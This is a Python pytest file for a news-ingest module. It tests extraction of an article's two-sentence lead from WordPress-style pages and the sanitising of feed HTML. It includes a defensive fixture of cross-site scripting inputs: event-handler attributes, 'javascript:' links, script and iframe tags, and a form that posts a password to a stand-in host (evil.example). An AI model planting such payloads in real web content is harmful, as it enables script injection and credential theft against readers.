"""Article content: the lead is the story's first sentences, never the site's boilerplate; HTML is made harmless."""

from __future__ import annotations

import re
from pathlib import Path

import pytest

from syndicate.ingest import content
from syndicate.text import sentences

SEED = Path(__file__).resolve().parents[1] / "data" / "seed-article.txt"  # a copy of shared/samples' story

FIRST_TWO_SENTENCES = (
    "The Joint U.S.-Armenian military exercises began this week in Yerevan, Armenia’s capital, "
    "resulting in tension with Russia, which sees Armenia as its regional ally. "
    "The drills involve 175 Armenian and 85 U.S. soldiers, including members of the Kansas National "
    "Guard, and are aimed at training Armenia’s military for international peacekeeping operations."
)


@pytest.fixture
def seed_blocks() -> dict[str, object]:
    """The seed article cut into what a WordPress page puts one after the other."""
    blocks = [" ".join(b.split()) for b in re.split(r"\n\s*\n", SEED.read_text()) if b.strip()]
    section, title, body, source, bio, reply = blocks
    assert (section, source, reply) == ("World News", "Source link", "Leave a Reply")
    assert bio.startswith("I'm TruthUSA, the author behind")
    return {"title": title, "body": [body], "tail": [source, bio, reply]}


def test_it_leads_with_the_first_two_sentences_of_the_seed_article_in_html(seed_blocks):
    html = "".join(f"<p>{block}</p>" for block in seed_blocks["body"])
    html += '<p><a href="https://www.reuters.com/x">Source link</a></p>'
    html += f'<div class="author-box"><img src="https://truthusa.example/a.png"><p>{seed_blocks["tail"][1]}</p></div>'
    html += '<h3 id="reply-title">Leave a Reply</h3>'

    assert content.lead(html) == FIRST_TWO_SENTENCES


def test_it_leads_with_the_first_two_sentences_of_the_seed_article_in_plain_text(seed_blocks):
    text = "\n\n".join(seed_blocks["body"] + seed_blocks["tail"])

    assert content.lead(text) == FIRST_TWO_SENTENCES


def test_it_stops_the_story_at_the_source_link_and_the_author_bio(seed_blocks):
    text = "\n\n".join(seed_blocks["body"] + seed_blocks["tail"])

    story = content.story_text(text)

    assert story == seed_blocks["body"]
    assert not any("TruthUSA" in block or "Leave a Reply" in block for block in story)


def test_it_takes_the_lead_across_paragraphs_when_the_first_is_one_sentence():
    html = "<p>Crème &amp; Crumb won the award.</p><p>Owner Zoë Martínez plans a second shop. It opens in May.</p>"

    assert content.lead(html) == "Crème & Crumb won the award. Owner Zoë Martínez plans a second shop."


def test_it_takes_the_lead_from_plain_text_split_on_blank_lines_with_spaces_or_crlf():
    text = "First paragraph says one thing.\r\n  \r\nSecond paragraph adds another. And a third.\n\nSource link"

    assert content.lead(text) == "First paragraph says one thing. Second paragraph adds another."


@pytest.mark.parametrize(
    "text, expected",
    [
        ("U.S. officials met on Monday. They agreed. Nothing else.", "U.S. officials met on Monday. They agreed."),
        ("Dr. Smith spoke first. Mr. Jones replied. Then they left.", "Dr. Smith spoke first. Mr. Jones replied."),
        ("The U.S. Army moved in. Prof. Lee watched. Later more.", "The U.S. Army moved in. Prof. Lee watched."),
        ("She met J. Doe in St. Louis. It rained. It stopped.", "She met J. Doe in St. Louis. It rained."),
        ("Gov. Newsom signed it in Jan. and Sen. Padilla agreed. It passed. Later.",
         "Gov. Newsom signed it in Jan. and Sen. Padilla agreed. It passed."),
    ],
)
def test_it_does_not_end_a_sentence_at_an_abbreviation(text, expected):
    assert content.lead(f"<p>{text}</p>") == expected


def test_it_ends_a_sentence_at_a_single_digit():
    html = "<p>The council voted 7 to 2. The library will open in 2025. Work starts soon.</p>"

    assert content.lead(html) == "The council voted 7 to 2. The library will open in 2025."


def test_it_ends_sentences_at_question_and_exclamation_marks_and_closing_quotes():
    html = "<p>Who won? “We did!” she said. The end came later.</p>"

    assert sentences(content.plain_text(html)) == ["Who won?", "“We did!” she said.", "The end came later."]
    assert content.lead(html) == "Who won? “We did!” she said."


def test_it_leaves_the_appeared_first_on_line_out_of_the_lead():
    html = ('<p>Only one sentence in this story.</p>'
            '<p>The post <a href="https://site.example/x">A Story</a> appeared first on '
            '<a href="https://site.example">Site News</a>.</p>')

    assert content.lead(html) == "Only one sentence in this story."


def test_it_leaves_continue_reading_out_of_the_lead():
    html = ('<p>Only one sentence in this story.</p>'
            '<p><a href="https://site.example/x#more-1" class="more-link">Continue reading →</a></p>')

    assert content.lead(html) == "Only one sentence in this story."


@pytest.mark.parametrize("boilerplate", ["Share this:", "Related posts", "Leave a comment", "Read more: elsewhere",
                                         "You may also like"])
def test_it_leaves_other_wordpress_boilerplate_out_of_the_lead(boilerplate):
    assert content.lead(f"<p>The story itself.</p><p>{boilerplate}</p><p>Not the story.</p>") == "The story itself."


def test_it_gives_an_empty_lead_when_there_is_no_story():
    assert content.lead("<p>The post X appeared first on Y.</p>") == ""
    assert content.lead("") == ""


def test_it_leaves_scripts_and_captions_out_of_the_lead():
    html = ("<script>var s = 'Not. The. Lead.';</script><style>p { color: red }</style>"
            "<figure><img src='https://x.example/a.jpg'><figcaption>A caption. Another.</figcaption></figure>"
            "<p>Real first sentence. Real second sentence. Third.</p>")

    assert content.lead(html) == "Real first sentence. Real second sentence."


def test_it_keeps_the_lead_short_when_sentences_are_long():
    first = "A" + " very" * 60 + " long first sentence."
    second = "Then" + " another" * 60 + " long one."

    lead = content.lead(f"<p>{first} {second}</p>")

    assert lead == first
    assert len(lead) <= 400


# ── sanitising ───────────────────────────────────────────────────────────────

HOSTILE = (
    '<p onclick="steal()">Read <a href="https://news.example/story" onmouseover="track()">the story</a> '
    'or <a href="javascript:alert(1)">this</a> or <a href="JaVaScRiPt:alert(2)">that</a>.</p>'
    '<img src="https://news.example/photo.jpg" alt="A photo" onerror="pwn()">'
    "<script>alert('x')</script>"
    "<style>body { display: none }</style>"
    '<iframe src="https://evil.example/frame"></iframe>'
    '<form action="https://evil.example/collect"><input name="password"><button>Send</button></form>'
)


def test_it_removes_everything_that_runs_from_feed_html():
    clean = content.sanitise(HOSTILE).lower()

    for forbidden in ("<script", "alert(", "<style", "display: none", "<iframe", "evil.example", "<form",
                      "<input", "onclick", "onmouseover", "onerror", "javascript:"):
        assert forbidden not in clean


def test_it_keeps_paragraphs_links_and_images_when_sanitising():
    clean = content.sanitise(HOSTILE)

    assert clean.startswith("<p>")
    assert '<a href="https://news.example/story"' in clean
    assert ">the story</a>" in clean
    assert '<img src="https://news.example/photo.jpg" alt="A photo">' in clean


@pytest.mark.parametrize("furniture", [
    "Source link", "Leave a Reply", "Leave a comment", "3 Comments", "Comments are closed.", "Related",
    "Related posts:", "You may also like", "Share this:", "Share on Facebook", "Like this:", "Click to share on X",
    "Subscribe to our newsletter", "Sign up for the morning email", "Follow us on Mastodon",
    "The post A Story appeared first on The Site.", "This article was originally published on The Site.",
    "Originally published at example.com", "Continue reading →", "Read more", "Read the full story",
    "About the author", "I'm Jane, the author behind Jane's News Hub", "Filed under: Politics", "Tags: a, b",
])
def test_it_ends_the_story_where_the_sites_furniture_begins(furniture):
    html = f"<p>First sentence here. Second sentence here.</p><p>{furniture}</p><p>Not the story. At all.</p>"
    assert content.story_text(html) == ["First sentence here. Second sentence here."]


@pytest.mark.parametrize("furniture", ["Photo: Reuters", "(Photo credit: AP)", "ADVERTISEMENT", "Image: Getty"])
def test_it_skips_credits_and_ads_inside_the_story(furniture):
    html = f"<p>{furniture}</p><p>First sentence here. Second sentence here.</p>"
    assert content.lead(html) == "First sentence here. Second sentence here."


def test_it_marks_a_wordpress_excerpt_as_cut():
    assert content.lead("<p>The council voted on Monday. Work starts soon [&#8230;]</p>") == (
        "The council voted on Monday. Work starts soon …")


def test_it_makes_relative_links_absolute_against_the_story():
    html = content.sanitise('<p><a href="/about">a</a> <img src="pic.jpg"></p>', base_url="https://news.example/2026/story/")
    assert 'href="https://news.example/about"' in html
    assert 'src="https://news.example/2026/story/pic.jpg"' in html
    assert content.first_image(html) == "https://news.example/2026/story/pic.jpg"


# ── what a page puts above the story, and furniture run into it ─────────────


def test_the_seed_page_as_a_whole_leads_with_the_story_not_its_section_or_headline(seed_blocks):
    """The seed article as its page reads: section label, headline, story, source link, bio, reply form."""
    page = ["World News", seed_blocks["title"], *seed_blocks["body"], *seed_blocks["tail"]]

    assert content.lead("".join(f"<p>{b}</p>" for b in page), title=seed_blocks["title"],
                        categories=["World News"]) == FIRST_TWO_SENTENCES
    assert content.lead(" ".join(page), title=seed_blocks["title"], categories=["World News"]) == FIRST_TWO_SENTENCES


def test_it_ends_the_story_at_furniture_run_into_its_last_paragraph(seed_blocks):
    run_in = seed_blocks["body"][0] + " Source link " + seed_blocks["tail"][1] + " Leave a Reply"

    [story] = content.story_text(f"<p>{run_in}</p>")

    assert story == seed_blocks["body"][0]


@pytest.mark.parametrize("furniture", [
    "Source link", "Leave a Reply", "The post Ferries resume appeared first on Harbour News.",
    "I'm Jane, the author behind Jane's News Hub.", "Continue reading →", "Read more: the timetable",
    "Related posts: Ferries", "You may also like", "Share this: Facebook", "Filed under: Local",
])
def test_furniture_run_into_a_paragraph_ends_the_story_there(furniture):
    html = f"<p>Ferries resume at dawn. The harbour reopens on Monday. {furniture} Not the story.</p>"

    assert content.story_text(html) == ["Ferries resume at dawn. The harbour reopens on Monday."]


@pytest.mark.parametrize("sentence", [
    "Readers who read more than one paper said so.", "She had a source link to the ministry.",
    "Asked to share this: she declined.", "Those related: posts by the minister.",
])
def test_words_that_only_look_like_furniture_stay_in_the_story(sentence):
    html = f"<p>Ferries resume at dawn. {sentence}</p>"

    assert content.story_text(html) == [f"Ferries resume at dawn. {sentence}"]


@pytest.mark.parametrize("top", [
    "By Jane Doe, Senior Correspondent | May 5, 2026",
    "By Jane Doe and Max Mustermann",
    "BY JANE DOE",
    "By Jane van der Berg | Updated May 5, 2026 at 10:04 a.m. EDT",
    "Published: May 5, 2026",
    "5 May 2026",
    "World News",
    "BREAKING",
    "Harbour reopens after the storm",
])
def test_it_leaves_labels_bylines_and_dates_above_the_story_out_of_the_lead(top):
    html = f"<p>{top}</p><p>Ferries resume at dawn. The harbour reopens on Monday.</p>"

    assert content.lead(html, title="Harbour reopens after the storm") == (
        "Ferries resume at dawn. The harbour reopens on Monday.")


@pytest.mark.parametrize("prefix", [
    "By Jane Doe, Senior Correspondent | May 5, 2026 ",
    "By Jane Doe | ",
    "WASHINGTON (AP) — ",
    "LONDON, May 5 (Reuters) - ",
    "SÃO PAULO — ",
    "Berlin (dpa) – ",
    "May 5, 2026 — ",
    "World News Harbour reopens after the storm ",
    "Harbour Reopens After The Storm: ",
])
def test_it_cuts_top_matter_run_into_the_first_paragraph(prefix):
    html = f"<p>{prefix}Ferries resume at dawn. The harbour reopens on Monday.</p>"

    assert content.lead(html, title="Harbour reopens after the storm", categories=["World News"]) == (
        "Ferries resume at dawn. The harbour reopens on Monday.")


@pytest.mark.parametrize("story", [
    "By the harbour, ferries wait for dawn. Crews are ready.",  # "By" that is no byline
    "US officials said the harbour reopens. Crews are ready.",  # capitals that are no dateline
    "World news is slow today. Crews are ready.",  # a category's words in a sentence
    "Harbour reopens after the storm, the mayor said. Crews are ready.",  # the headline's words, said
    "NATO — the alliance — met. Crews are ready.",
])
def test_a_story_that_starts_like_top_matter_keeps_its_words(story):
    assert content.lead(f"<p>{story}</p>", title="Harbour reopens after the storm",
                        categories=["World News"]) == story


def test_a_short_story_is_not_mistaken_for_a_label():
    assert content.lead("<p>Ferries resume</p>", title="Ferries") == "Ferries resume"


def test_an_advertisement_run_into_a_paragraph_is_left_out():
    html = "<p>Ferries resume at dawn. Advertisement The harbour reopens on Monday.</p>"

    assert content.lead(html) == "Ferries resume at dawn. The harbour reopens on Monday."


@pytest.mark.parametrize("run", [".", "!?", "…", "By Ab Cd | ", "ABC DEF ", "Word. ", "a", "。"])
def test_a_strangers_megabyte_paragraph_is_read_once_for_its_lead(run):
    """A megabyte of one pattern (and a 200 KB headline): each was read quadratically by some pattern once (100
    KB of dots took 28 s; a megabyte, most of an hour). The lead is what the story's first 1,600 characters
    say, whatever comes after."""
    html = f"<p>{run * (1_000_000 // len(run))}</p><p>The council met on Monday.</p>"

    lead = content.lead(html, title="a " * 100_000, categories=["x " * 10_000] * 60)

    assert len(lead) <= 400
    assert content.lead(f"<p>The council met on Monday. {run * (1_000_000 // len(run))}</p>").startswith(
        "The council met on Monday.")


@pytest.mark.parametrize("rule", ["* * *", "———", "…", "#", ". . ."])
def test_a_section_break_is_no_paragraph_of_the_lead(rule):
    assert content.lead(f"<p>{rule}</p><p>Ferries resume at dawn. Crews are ready.</p>") == (
        "Ferries resume at dawn. Crews are ready.")
